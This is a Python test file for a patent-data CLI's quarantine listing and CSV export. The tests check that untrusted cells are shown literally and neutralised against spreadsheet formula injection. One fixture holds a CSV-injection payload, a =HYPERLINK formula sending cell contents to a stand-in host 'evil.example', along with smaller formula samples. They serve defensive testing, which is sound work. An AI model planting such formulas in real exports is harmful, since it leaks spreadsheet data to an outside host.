"""`patentnav quarantine` lists and exports set-aside records: untrusted text stays text on screen and in Excel."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.safety import spreadsheet_safe_text as neutralise_cell
from pipeline.warehouse.connection import open_warehouse
from pipeline.warehouse.ingest import ingest_paths

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def seed(warehouse: Path) -> None:
    with open_warehouse(warehouse) as con:
        for file_id, name, status in (
            ("f1", "a.csv", "loaded"),
            ("f2", "b.xml", "loaded"),
            ("f3", "c.csv", "superseded"),
        ):
            con.execute(
                "insert into core.ingest_file (file_id, path, file_name, sha256, size_bytes, format, source, "
                "status, first_seen_at) values ($id, '/x/' || $n, $n, 's', 1, 'lens', 'lens', $s, now())",
                {"id": file_id, "n": name, "s": status},
            )
        rows = [
            ("f1", "a.csv", "row 3", "unparseable Publication Date '[/]'; left empty", "repaired", HOSTILE),
            ("f1", "a.csv", "row 10", "36 fields, header has 37", "rejected", "@cmd"),
            ("f2", "b.xml", "doc 2 (line 330)", "malformed XML: [bold red]mismatch[/]", "rejected", "-1+1"),
            ("f3", "c.csv", "row 1", "from a superseded file", "rejected", None),
        ]
        for row in rows:
            con.execute("insert into core.quarantine values (?, ?, ?, ?, ?, ?)", row)


@pytest.fixture
def warehouse(tmp_path, monkeypatch):
    path = tmp_path / "w.duckdb"
    monkeypatch.setenv("PATENTNAV_WAREHOUSE", str(path))
    monkeypatch.setenv("COLUMNS", "200")
    seed(path)
    return path


def read_export(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_lists_loaded_files_records_in_record_order_with_markup_shown_literally(warehouse):
    result = CliRunner().invoke(app, ["quarantine"])
    assert result.exit_code == 0, result.output
    assert "Quarantine: 3 record(s)" in result.output
    assert "'[/]'" in result.output  # would be a rich MarkupError if interpreted
    assert "[bold red]mismatch[/]" in result.output
    assert "superseded" not in result.output
    assert result.output.index("row 3") < result.output.index("row 10")  # file order, not string order


def test_file_filter_and_export_neutralise_every_formula_cell(warehouse, tmp_path):
    out = tmp_path / "exports" / "q.csv"
    result = CliRunner().invoke(app, ["quarantine", "--file", "a.csv", "--export", str(out)])
    assert result.exit_code == 0, result.output
    assert "b.xml" not in result.output and "exported 2 row(s)" in result.output
    rows = read_export(out)
    assert rows[0] == ["file_name", "record_locator", "reason", "action", "raw_excerpt"]
    assert rows[1] == ["a.csv", "row 3", "unparseable Publication Date '[/]'; left empty", "repaired", "'" + HOSTILE]
    assert rows[2] == ["a.csv", "row 10", "36 fields, header has 37", "rejected", "'@cmd"]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_export_of_a_real_ingest_names_file_and_record(tmp_path, monkeypatch):
    path = tmp_path / "w.duckdb"
    monkeypatch.setenv("PATENTNAV_WAREHOUSE", str(path))
    lens = Path(__file__).resolve().parents[1] / "data" / "bad" / "lens_v2025_6rows.csv"
    lines = lens.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    bad = tmp_path / "lens_bad.csv"
    bad.write_text(lines[0] + lines[1] + "=1+1,@x,-3\n" + "".join(lines[2:]), encoding="utf-8")
    with open_warehouse(path) as con:
        ingest_paths(con, [bad])
    out = tmp_path / "q.csv"
    result = CliRunner().invoke(app, ["quarantine", "--export", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_export(out)
    assert rows[1][:4] == ["lens_bad.csv", "row 2", f"3 fields, header has {lines[0].count(',') + 1}", "rejected"]
    assert "=1+1,@x,-3" in rows[1][4]
    assert len(rows) == 2
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_no_warehouse_is_a_clear_error(tmp_path, monkeypatch):
    monkeypatch.setenv("PATENTNAV_WAREHOUSE", str(tmp_path / "none.duckdb"))
    result = CliRunner().invoke(app, ["quarantine"])
    assert result.exit_code != 0
    assert "no warehouse yet" in str(result.exception)


def test_at_80_columns_each_record_is_a_block(warehouse, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    result = CliRunner().invoke(app, ["quarantine"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert max(len(line) for line in lines) <= 80
    assert "a.csv · row 3 · repaired" in lines and "b.xml · doc 2 (line 330) · rejected" in lines
    assert "  malformed XML: [bold red]mismatch[/]" in lines
